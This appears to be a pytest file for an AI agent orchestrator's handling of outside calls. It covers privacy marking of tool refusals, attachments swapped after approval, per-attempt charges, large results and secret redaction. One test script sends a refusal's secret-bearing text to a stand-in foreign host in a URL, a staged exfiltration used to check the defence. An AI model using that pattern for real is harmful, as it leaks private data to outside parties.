"""One call outside: what a refusal brings in, which content is used, what an attempt costs, where a large result goes."""

from __future__ import annotations

import threading
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa

from agents.tools.email.compose import read_files
from orchestrator.actions.policy import load
from orchestrator.actions.redaction import Redactor
from orchestrator.contracts import Card, Context, Done, FatalError, Outcome, Task, TaskState, ToolError, TransientError
from orchestrator.execution import outside_calls
from orchestrator.outside import Outside, Result
from orchestrator.tasks import journal
from storage.database import Database
from storage.models import CounterRow, EffectRow
from tests.actions.stage import Letter, Look, Mail, Page, Stage, World, errand
from tests.actions.test_effects import FREELY, effect_states
from tests.people import settle
from tests.tools.outside import outside


@pytest.fixture
def world() -> World:
    return World()


Open = Callable[..., Stage]


@pytest.fixture
def stage(database: Database, tmp_path: Path, world: World) -> Open:
    def make(*tools: Any, script: Any, policy: Any = FREELY, **more: Any) -> Stage:
        return Stage(database, tmp_path, agents=[errand(script)], tools=tools or (Mail(world),), policy=policy, **more)

    return make


# --- refusals ---


async def quoted_then_sent_on(task: Task, context: Context) -> Outcome:
    try:
        await context.call("page.read", key="look", url="http://own.example/table")
    except ToolError as error:
        await context.call("page.get", key="tell", url=f"http://foreign.example/{error}")
    return Done(Card("Done."))


def refuses(moment: str) -> None:
    raise ToolError("not JSON: the secret of the house")


def quoting(world: World, **more: Any) -> tuple[Look, Look]:
    return Look(world, **more), Look(World(), name="page.get")


async def test_what_a_refusal_quotes_does_not_leave_unasked(stage: Open, world: World) -> None:
    world.trouble = refuses
    on = stage(*quoting(world), script=quoted_then_sent_on, policy=None)
    task = await on.begin()
    assert task.state is TaskState.AWAITING_APPROVAL
    row = on.task_row(task)
    assert row.private and row.sources == ["own.example"]


async def test_without_the_marks_of_a_refusal_it_would_have_left(stage: Open, world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(outside_calls, "_of_refusal", lambda call: Result(None))
    world.trouble = refuses
    on = stage(*quoting(world), script=quoted_then_sent_on, policy=None)
    assert (await on.begin()).state is TaskState.COMPLETED


async def test_a_refusal_of_what_only_looks_at_public_things_is_not_private(stage: Open, world: World) -> None:
    class Public(Look):
        public = True

    world.trouble = refuses
    on = stage(Public(world), Look(World(), name="page.get"), script=quoted_then_sent_on, policy=None)
    task = await on.begin()
    row = on.task_row(task)
    assert task.state is TaskState.COMPLETED and not row.private and "own.example" in row.sources


# --- the content that was approved ---


class Attaching(Mail):
    """Reads its attachments again when it leaves, as a mail does."""

    async def act(self, outside: Outside, arguments: Letter) -> Result:
        self.world.at("reading")
        for name in arguments.attachments:
            outside.judged(name, (outside.folder / name).read_bytes())
        return await super().act(outside, arguments)


async def with_file(task: Task, context: Context) -> Outcome:
    await context.call("mail.send", key="send", to=["a@example.com"], body="See there.", attachments=["plan.txt"])
    return Done(Card("Sent."))


async def test_a_file_swapped_after_the_approval_is_not_sent(stage: Open, world: World) -> None:
    on = stage(Attaching(world), script=with_file, policy=None)
    file = on.around.folder_of(on.somebody.person.id) / "plan.txt"
    file.write_text("what was approved")
    task = await on.begin()

    def swapped(moment: str) -> None:
        if moment == "reading":
            file.write_text("something else")

    world.trouble = swapped
    await on.press("Approve")
    assert not world.done and effect_states(on) == ["failed"]
    assert on.now(task).state is TaskState.FAILED and "was changed since" in on.heard()


async def test_an_unchanged_file_is_sent(stage: Open, world: World) -> None:
    on = stage(Attaching(world), script=with_file, policy=None)
    (on.around.folder_of(on.somebody.person.id) / "plan.txt").write_text("what was approved")
    await on.begin()
    await on.press("Approve")
    assert sum(world.done.values()) == 1


def test_attachments_pass_only_with_the_content_that_was_judged(tmp_path: Path) -> None:
    hand = outside(tmp_path / "folder", files={"plan.txt": "0" * 64})
    (hand.folder / "plan.txt").write_text("something else")
    assert read_files(hand.folder, ("plan.txt",), 1000)[0].content == b"something else"
    with pytest.raises(ToolError, match="was changed since"):
        read_files(hand.folder, ("plan.txt",), 1000, hand.judged)


async def test_a_file_swapped_between_two_attempts_is_judged_anew(stage: Open, world: World) -> None:
    on = stage(Attaching(world), script=with_file)
    file = on.around.folder_of(on.somebody.person.id) / "plan.txt"
    file.write_text("first")

    def away(moment: str) -> None:
        world.trouble = None
        file.write_text("second")
        raise TransientError("away")

    world.trouble = away
    await on.begin()
    before = digest(on)
    await on.wait(seconds=60)
    assert effect_states(on) == ["done"] and digest(on) != before, "the ledger says what really ran"


def digest(on: Stage) -> str:
    return str(on.database.read_now(lambda connection: connection.execute(sa.select(EffectRow.digest)).scalar_one()))


# --- texts that are none ---


async def test_half_a_character_is_refused_and_not_the_end_of_the_task(stage: Open, world: World) -> None:
    said: list[str] = []

    async def odd(task: Task, context: Context) -> Outcome:
        try:
            await context.call("mail.send", key="send", to=["a@example.com"], body="a\ud800")
        except ToolError as error:
            said.append(str(error))
        return Done(Card("Not sent."))

    on = stage(script=odd)
    task = await on.begin()
    assert task.state is TaskState.COMPLETED and not world.done
    assert "lone surrogate" in said[0]
    steps = on.database.read_now(lambda connection: journal.read(connection, task.id))
    assert steps["send"].input == {"to": ["a@example.com"], "body": "a\\ud800"}


async def test_half_a_character_in_a_result_is_written_out(stage: Open, world: World) -> None:
    async def read(task: Task, context: Context) -> Outcome:
        return Done(Card("Read."), await context.call("page.read", key="read", url="http://news.example/1"))

    on = stage(Look(world, content="a\ud800"), script=read)
    assert (await on.begin()).result == {"text": "a\\ud800"}


# --- money ---


class Painter(Look):
    """Charges as soon as it is asked."""

    paid = True

    async def act(self, outside: Outside, arguments: Page) -> Result:
        outside.charging()
        return await super().act(outside, arguments)


async def paint(task: Task, context: Context) -> Outcome:
    try:
        await context.call("page.read", key="paint", url="http://paint.example/1")
    except ToolError:
        return Done(Card("No picture."))
    return Done(Card("Painted."))


def taken(on: Stage) -> float:
    query = sa.select(CounterRow.spent + CounterRow.reserved).where(CounterRow.scope == "task")
    return float(on.database.read_now(lambda connection: connection.execute(query).scalar_one()))


@pytest.mark.parametrize(("tool", "credits"), [(Painter, 5.0), (Look, 0.0)])
async def test_a_refusal_after_the_other_side_charged_costs_what_it_costs(stage: Open, world: World, tool: type[Look], credits: float) -> None:
    world.trouble = refuses
    on = stage(tool(world), script=paint)
    await on.begin()
    assert taken(on) == credits


async def test_each_attempt_that_was_charged_counts(stage: Open, world: World) -> None:
    left = [1, 1]

    def away(moment: str) -> None:
        if left:
            left.pop()
            raise TransientError("the answer was lost")

    world.trouble = away
    on = stage(Painter(world), script=paint)
    task = await on.begin()
    await on.wait(seconds=60)
    await on.wait(seconds=60)
    assert on.now(task).state is TaskState.COMPLETED and taken(on) == 15


# --- large results ---


async def test_a_file_that_is_named_like_the_folder_of_results_stands_in_nobodys_way(stage: Open, world: World) -> None:
    async def big(task: Task, context: Context) -> Outcome:
        return Done(Card("Read."), await context.call("page.read", key="read", url="http://news.example/1"))

    on = stage(Look(world, content="x" * 200_000), script=big)
    folder = on.around.folder_of(on.somebody.person.id)
    (folder / "results").write_text("mine")
    task = await on.begin()
    assert task.state is TaskState.COMPLETED
    assert (folder / task.result["file"]).stat().st_size == task.result["bytes"] and (folder / "results").read_text() == "mine"


def test_where_no_folder_can_be_made_the_beginning_is_kept(tmp_path: Path) -> None:
    for name in outside_calls.SHELVES:
        (tmp_path / name).write_text("mine")
    kept = outside_calls.fit("x" * 200_000, tmp_path, "key")
    assert isinstance(kept, dict) and "file" not in kept and kept["bytes"] == 200_002


# --- let through without an approval of its own ---


async def test_an_earlier_attempt_covers_only_the_very_same_plan(stage: Open, world: World) -> None:
    """It was let through while nothing private had been read; with another file it is another plan, and is asked about."""
    on = stage(Attaching(world), script=with_file)
    file = on.around.folder_of(on.somebody.person.id) / "plan.txt"
    file.write_text("first")

    def away(moment: str) -> None:
        world.trouble = None
        file.write_text("second")
        on.dispatcher.rules = on.rules = replace(on.rules, policy=load())
        raise TransientError("away")

    world.trouble = away
    task = await on.begin()
    await on.wait(seconds=60)
    assert on.now(task).state is TaskState.AWAITING_APPROVAL and not world.done


async def test_an_edited_plan_keeps_its_second_approver(database: Database, tmp_path: Path, world: World) -> None:
    async def send(task: Task, context: Context) -> Outcome:
        await context.call("mail.send", key="send", to=["a@example.com"], body="Hello")
        return Done(Card("Sent."))

    first, second = settle(database), settle(database, external="second", channel="telegram")
    policy = {"approvals": {"second_after_minutes": 30, "second_approver": "telegram:second"}}
    on = Stage(database, tmp_path, agents=[errand(send)], tools=[Mail(world)], somebody=first, policy=policy)
    on.dispatcher.rules = on.rules = replace(on.rules, second=lambda connection: second.person.id)
    await on.begin()
    await on.press("Edit")
    await on.press("Text")
    await on.say("Goodbye")
    await on.wait(minutes=31)
    await on.press("Approve", who=second)
    assert world.texts == ["a@example.com: Goodbye"]


# --- secrets ---


async def test_a_long_secret_is_looked_for_off_the_event_loop(monkeypatch: pytest.MonkeyPatch) -> None:
    built: list[int] = []

    def watched(secrets: list[str]) -> Redactor:
        built.append(threading.get_ident())
        return Redactor(secrets)

    monkeypatch.setattr(outside_calls, "Redactor", watched)
    hand: Any = type("Hand", (), {"revealed": ["sesame-open-wide"]})()
    calls = outside_calls.OutsideCalls(None, None, None)  # type: ignore[arg-type]
    assert "sesame" not in await calls._clean(hand, "it was sesame-open-wide")
    assert built and threading.get_ident() not in built


async def test_a_tool_that_breaks_marks_its_task_too(stage: Open, world: World) -> None:
    async def look(task: Task, context: Context) -> Outcome:
        try:
            await context.call("page.read", key="look", url="http://own.example/table")
        except FatalError:
            return Done(Card("It broke."))
        return Done(Card("Read."))

    def breaks(moment: str) -> None:
        raise ValueError("the row holds a secret")

    world.trouble = breaks
    on = stage(Look(world), script=look)
    assert on.task_row(await on.begin()).private
